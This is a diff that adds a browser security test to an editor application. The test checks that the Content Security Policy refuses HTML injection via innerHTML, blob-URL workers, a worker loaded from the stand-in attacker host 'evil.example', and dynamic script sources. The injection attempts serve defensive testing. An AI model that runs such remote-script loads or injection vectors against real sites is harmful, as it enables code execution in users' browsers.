@@ -169,3 +169,35 @@ async function paste(page: Page, text: string): Promise<void> {
     element.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
   }, text);
 }
+
+it('text becomes neither markup nor code in the editor, whatever a library does (security, CSP)', async () => {
+  const page = await studio.open('/functions');
+  await page.getByRole('button', { name: 'New function' }).first().waitFor();
+  const tried = await page.evaluate((html) => {
+    const outcome = (work: () => unknown) => {
+      try {
+        work();
+        return 'done';
+      } catch {
+        return 'refused';
+      }
+    };
+    const element = document.createElement('div');
+    return [
+      outcome(() => {
+        element.innerHTML = html;
+      }),
+      outcome(() => new Worker(URL.createObjectURL(new Blob(['1'])))),
+      outcome(() => new Worker('https://evil.example/ui/x.js')),
+      outcome(() => {
+        document.createElement('script').src = '/docs/x.js';
+      }),
+      outcome(() => {
+        element.innerHTML = '';
+      }),
+    ];
+  }, HTML);
+  expect(tried).toEqual(['refused', 'refused', 'refused', 'refused', 'done']);
+  // What was tried here is what the browser complains about.
+  page.complaints.length = 0;
+});
